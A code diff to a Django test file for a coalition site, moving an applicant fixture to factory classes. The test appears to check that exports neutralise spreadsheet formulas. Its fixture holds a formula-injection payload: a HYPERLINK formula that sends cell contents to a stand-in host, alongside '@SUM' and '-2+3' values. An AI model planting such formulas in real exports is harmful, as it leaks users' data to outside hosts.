@@ -15,7 +15,8 @@ from coalitions.factories import (
     coalition_index,
 )
 from network.export import neutralise
-from network.models import ContactPerson, Participant, Role
+from network.factories import ContactPersonFactory, ParticipantFactory
+from network.models import Role
 from tests.conftest import at
 
 pytestmark = pytest.mark.django_db
@@ -25,10 +26,8 @@ FORMULA = '=HYPERLINK("http://x.example.org/?d="&A1,"Klik")'
 
 @pytest.fixture
 def applicant():
-    participant = Participant.objects.create(name=FORMULA, role=Role.PARTNER)
-    ContactPerson.objects.create(
-        participant=participant, name="@SUM(1+1)", email="a@example.org", phone="+31 6 1"
-    )
+    participant = ParticipantFactory(name=FORMULA, role=Role.PARTNER)
+    ContactPersonFactory(participant=participant, name="@SUM(1+1)", email="a@example.org", phone="+31 6 1")
     coalition = CoalitionPageFactory(parent=coalition_index(), title="Rookvrije sport")
     CoalitionMembershipFactory(page=coalition, participant=participant)
     ActivityPageFactory(parent=coalition, title="-2+3", published_at=at(datetime.date(2026, 5, 1)))
